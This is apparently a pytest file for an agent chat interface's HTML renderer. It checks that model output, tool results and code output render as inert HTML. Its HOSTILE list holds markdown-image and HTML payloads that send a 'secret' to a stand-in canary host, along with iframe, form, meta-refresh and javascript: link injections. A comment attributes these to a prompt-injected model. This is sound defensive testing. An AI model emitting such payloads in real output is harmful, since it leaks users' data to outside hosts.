"""ChatView: agent events -> the chat the browser shows, as inert HTML (pure; no Gradio, no kernel)."""

from __future__ import annotations

from dataclasses import dataclass
from html.parser import HTMLParser
from typing import ClassVar

from glm_agent import events as ev
from glm_agent._html import markdown
from glm_agent.interpreter import ExecutionResult, StreamOutput
from glm_agent.messages import CodeCall, ToolCall
from glm_agent.web import ChatView
from tests.web_support import visible


class _Tags(HTMLParser):
    """Every tag and attribute a browser would build from an HTML string."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(html_text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html_text)
    return parser.tags


#: what a prompt-injected model, a tool or the kernel might write to make the browser fetch or post
HOSTILE = [
    "![exfil](http://canary.invalid/x.png?q=secret)",
    "![ref][r]\n\n[r]: http://canary.invalid/ref.png",
    '<img src="http://canary.invalid/img.png">',
    "<IMG SRC=http://canary.invalid/upper.png>",
    '<form action="http://canary.invalid/post"><input name=a><button>go</button></form>',
    "<style>body{background:url(http://canary.invalid/style.png)}</style>",
    '<link rel="stylesheet" href="http://canary.invalid/sheet.css">',
    '<iframe src="http://canary.invalid/frame"></iframe>',
    '<svg><image href="http://canary.invalid/svg.png"/></svg>',
    '<a href="javascript:alert(1)">x</a> [y](javascript:alert(1))',
    '<video poster="http://canary.invalid/poster.png"></video>',
    "<object data=http://canary.invalid/o></object><embed src=http://canary.invalid/e>",
    '<div style="background:url(http://canary.invalid/inline.png)">x</div>',
    "<meta http-equiv=refresh content='0;url=http://canary.invalid/meta'>",
    "<base href=http://canary.invalid/>",
]
LOADING_TAGS = {
    "img",
    "form",
    "style",
    "link",
    "iframe",
    "svg",
    "image",
    "video",
    "object",
    "embed",
    "meta",
    "base",
    "script",
    "input",
    "button",
}


def assert_inert(html_text: str) -> None:
    found = tags(html_text)
    assert not [t for t, _ in found if t in LOADING_TAGS], found
    for tag, attrs in found:
        assert "style" not in attrs, (tag, attrs)
        assert not str(attrs.get("href") or "").lower().startswith("javascript"), attrs


def test_markdown_from_the_model_loads_nothing():
    for text in HOSTILE:
        html_text = markdown(text)
        assert_inert(html_text)
    # what is not an image still reads as what it is: a link, or the text itself
    assert 'href="http://canary.invalid/x.png?q=secret"' in markdown(HOSTILE[0])
    assert "<img" in visible(markdown(HOSTILE[2]))


def test_every_kind_of_message_is_inert_html():
    view = ChatView(image_url=lambda p: f"/own/{p.name}")
    evil = "\n\n".join(HOSTILE)
    view.user(evil, files=['<img src="http://canary.invalid/name.png">'])
    view.event(ev.TextDelta(1, evil))
    view.event(ev.CallStarted(1, '<img src="http://canary.invalid/title.png">'))
    call = ToolCall(name="get_weather", arguments={"city": evil})
    view.event(ev.ToolCalled(1, call))
    view.event(ev.ToolReturned(1, call, True, evil))
    code = CodeCall(code=evil)
    view.event(ev.CallStarted(2, "interpreter"))
    view.event(ev.CodeStarted(2, code))
    view.live_output(evil)
    assert_inert(view.messages[-1]["content"])
    view.event(ev.CodeFinished(2, code, True, f"```result\n{evil}\n```", []))
    view.event(ev.FinalAnswer(2, evil))
    view.notice(evil)
    view.event(ev.ParseFailed(3, "<b>x</b>", evil))
    for message in view.messages:
        assert_inert(message["content"])
        for value in message.get("metadata", {}).values():
            assert "<" not in str(value) and "&" not in str(value), message["metadata"]


def test_printed_backticks_cannot_end_the_output_block():
    view = ChatView()
    view.user("run")
    code = CodeCall(code="print('```')")
    view.event(ev.CallStarted(1, "interpreter"))
    view.event(ev.CodeStarted(1, code))
    printed = "before\n```\n![x](http://canary.invalid/live.png)\n<img src=http://canary.invalid/live2.png>\n"
    view.live_output(printed)
    card = view.messages[-1]["content"]
    assert_inert(card)
    assert "![x](http://canary.invalid/live.png)" in visible(card)  # shown as the text it is
    result = ExecutionResult(code.code, [StreamOutput("stdout", printed)], "ok", printed, f"```result\n{printed}\n```")
    view.event(ev.CodeFinished(1, code, True, result.observation, [], result=result))
    card = view.messages[-1]["content"]
    assert_inert(card)
    body = visible(card)
    assert "before\n```\n![x](http://canary.invalid/live.png)" in body  # from the result, not re-parsed


def test_live_output_only_appends_and_stops_at_its_cap():
    view = ChatView(max_live_chars=1000)
    view.user("run")
    code = CodeCall(code="print('x' * 5000)")
    view.event(ev.CallStarted(1, "interpreter"))
    view.event(ev.CodeStarted(1, code))
    before = view.messages[-1]["content"]
    view.live_output("<a")
    after = view.messages[-1]["content"]
    assert after.startswith((before.removesuffix("…"), before))
    previous = after
    for _ in range(30):
        view.live_output("y" * 100 + "\n")
        now = view.messages[-1]["content"]
        assert now.startswith(previous)  # Gradio sends only the new text
        previous = now
    assert "live output stops after 1,000 characters" in previous
    assert previous.count("y") <= 1000


def test_a_tool_call_is_a_card_with_arguments_observation_status_and_duration():
    view = ChatView()
    view.user("Weather in Paris?")
    call = ToolCall(name="get_weather", arguments={"city": "Paris"})
    view.event(ev.TextDelta(1, "Let me check."))
    view.event(ev.CallStarted(1, "get_weather"))
    card = view.messages[-1]
    assert card["metadata"]["title"] == "Tool: get_weather" and card["metadata"]["status"] == "pending"
    view.event(ev.ToolCalled(1, call))
    assert "&quot;city&quot;: &quot;Paris&quot;" in view.messages[-1]["content"]
    view.event(ev.ToolReturned(1, call, True, '{"temperature": 21}'))
    card = view.messages[-1]
    assert card["metadata"]["status"] == "done" and card["metadata"]["duration"] >= 0
    assert '{"temperature": 21}' in visible(card["content"])
    view.event(ev.TextDelta(2, "It is 21."))
    view.event(ev.FinalAnswer(2, "It is 21."))
    assert [visible(m["content"]).strip() for m in view.messages if "metadata" not in m] == [
        "Weather in Paris?",
        "Let me check.",
        "It is 21.",
    ]


def test_code_shows_live_output_then_the_clean_result_and_images(tmp_path):
    view = ChatView(image_url=lambda p: f"/copied/{p.name}")
    view.user("plot")
    call = CodeCall(code="print('a')")
    view.event(ev.CallStarted(1, "interpreter"))
    view.event(ev.CodeStarted(1, call))
    view.live_output("a\n")
    assert "(running)" in view.messages[-1]["content"] and "a\n" in view.messages[-1]["content"]
    result = ExecutionResult(
        "print('a')",
        [],
        "ok",
        "a\n[Image]\n",
        "```result\na\n[Image]\n```",
        notices=["[Files written in /mnt/data: x.png]"],
    )
    view.event(ev.CodeFinished(1, call, True, result.observation, [tmp_path / "run001-1.png"], result=result))
    card, image = view.messages[-2], view.messages[-1]
    assert "```result" not in card["content"] and "[Image]" in card["content"]
    assert "[Files written in /mnt/data: x.png]" in card["content"]
    assert "status" not in card["metadata"]  # done code cards stay open on their output
    assert tags(image["content"]) == [("img", {"src": "/copied/run001-1.png", "alt": "run001-1.png"})]


def test_an_image_that_cannot_be_shown_is_named_not_loaded(tmp_path):
    view = ChatView(image_url=lambda p: None)
    call = CodeCall(code="x")
    view.event(ev.CodeFinished(1, call, True, "```result\n\n```", [tmp_path / "run001-1.png"]))
    assert "run001-1.png could not be shown" in view.messages[-1]["content"]
    assert_inert(view.messages[-1]["content"])


def test_refused_and_unparsable_calls_are_visible():
    view = ChatView()
    view.user("go")
    call = ToolCall(name="delete_all", arguments={})
    view.event(ev.CallStarted(1, "delete_all"))
    view.awaiting_approval(call)
    assert "waiting for approval" in view.messages[-1]["metadata"]["log"]
    view.event(ev.CallRefused(1, call, "The user did not allow you to call delete_all."))
    refused = view.messages[-1]
    assert refused["metadata"]["title"] == "Tool: delete_all (failed)" and "denied by the user" in refused["content"]
    view.event(ev.CallStarted(1, "delete_all"))
    view.event(ev.CallRefused(1, call, "The request was not approved.", reason="approve raised RuntimeError: boom"))
    assert "not run: approve raised RuntimeError: boom" in view.messages[-1]["content"]  # a failing gate says why
    view.event(ev.CallStarted(1, "broken"))
    view.event(ev.ParseFailed(1, "broken", "could not parse the call: unbalanced brackets"))
    assert "could not be parsed" in view.messages[-1]["metadata"]["title"]
    assert "unbalanced" in view.messages[-1]["content"]


def test_an_unknown_event_type_is_shown_not_dropped():
    @dataclass(frozen=True)
    class Surprise(ev.AgentEvent):
        type: ClassVar[str] = "surprise"
        detail: str

    view = ChatView()
    view.event(Surprise(1, "new"))
    assert view.messages[-1]["metadata"]["title"] == "surprise"
    assert "&quot;detail&quot;: &quot;new&quot;" in view.messages[-1]["content"]


def test_regenerate_drops_the_last_turn_only():
    view = ChatView()
    view.user("one")
    view.event(ev.FinalAnswer(1, "1"))
    view.user("two")
    view.event(ev.FinalAnswer(1, "2"))
    view.drop_last_turn()
    assert [visible(m["content"]).strip() for m in view.messages] == ["one", "1"]
